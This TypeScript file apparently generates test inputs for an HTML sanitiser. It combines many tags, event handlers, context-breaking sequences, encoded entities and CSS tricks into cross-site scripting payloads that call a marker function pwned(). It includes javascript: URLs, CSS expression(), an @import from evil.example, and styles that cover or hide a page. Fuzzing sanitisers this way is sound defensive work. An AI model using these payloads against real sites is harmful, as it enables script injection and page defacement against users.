/* Text that is code where it is taken for HTML, SVG or CSS. What it would run is `pwned()`. */

const TAGS =
  'script img svg iframe object embed video audio source link meta base form input button details body marquee math style template slot textarea title noscript plaintext frameset isindex portal coopkit-call-banner coopkit-provider'.split(
    ' ',
  );

const HANDLERS =
  'onload onerror onclick onfocus onmouseover onbegin onanimationstart ontoggle onpointerenter onscrollend onbeforetoggle onslotchange'.split(
    ' ',
  );

/** Ways out of the place that the text stands in. */
const BREAKS = [
  '',
  '">',
  "'>",
  '`>',
  '" ',
  "' ",
  '--><',
  '-->',
  '</bdi>',
  '</a>',
  '</script>',
  '</style>',
  '</title>',
  '</template>',
  ']]>',
  '/*',
  '*/',
  '\\">',
  '\u0000>',
  '&quot;>',
  '&#34;&#62;',
  '%22%3E',
  '\\u0022\\u003e',
];

const ENTITIES = [
  '&lt;img src=x onerror=pwned()&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '&#x3c;img src=x onerror=pwned()&#x3e;',
  '&ltimg src=x onerror=pwned()&gt',
  '&amp;lt;b&amp;gt;',
  '&NewLine;&Tab;&colon;&lpar;',
  '&nbsp;&shy;&zwj;&zwnj;&lrm;&rlm;',
  '&#0;&#xD800;&#x110000;&#-1;&#;&;&',
  '&notit; &copy &reg &AMP',
];

const STYLES = [
  'color:expression(pwned())',
  'background:url(javascript:pwned())',
  '@import "https://evil.example/x.css";',
  '*{display:none!important}',
  ':host{all:unset}',
  '}body{display:none}',
  '</style><style>*{opacity:0}',
];

/** Every tag with every handler, out of every kind of place in turn. */
export function markup(): string[] {
  const strings: string[] = [...ENTITIES, ...STYLES];
  let turn = 0;
  for (const tag of TAGS) {
    for (const handler of HANDLERS) {
      const out = BREAKS[(turn += 1) % BREAKS.length]!;
      strings.push(
        `${out}<${tag} ${handler}=pwned() src=x href=javascript:pwned() autofocus tabindex=0>`,
        `${out}<${tag.toUpperCase()}/${handler.toUpperCase()}="pwned()">pwned()</${tag}>`,
        `${out}<${tag}\t${handler}\n=\r'pwned()'`,
      );
    }
    strings.push(
      `<${tag}>pwned()</${tag}>`,
      `<${tag} style="position:fixed;inset:0">over the page</${tag}>`,
      `<<${tag}>`,
      `< ${tag}>`,
      `</${tag}>`,
      `<${tag}`,
      `<!--<${tag}>-->`,
      `<![CDATA[<${tag}>]]>`,
      `<?xml version="1.0"?><${tag} xmlns="http://www.w3.org/1999/xhtml"/>`,
    );
  }
  for (const out of BREAKS) {
    for (const handler of HANDLERS) strings.push(`${out}${handler}=pwned() x=`, `${out} ${handler}="pwned()`);
    for (const style of STYLES) strings.push(`${out}style="${style}"`);
    for (const entity of ENTITIES) strings.push(out + entity);
    strings.push(`${out}<img src=x onerror=pwned()>`, `${out}<svg><script>pwned()</script></svg>`);
  }
  return strings;
}
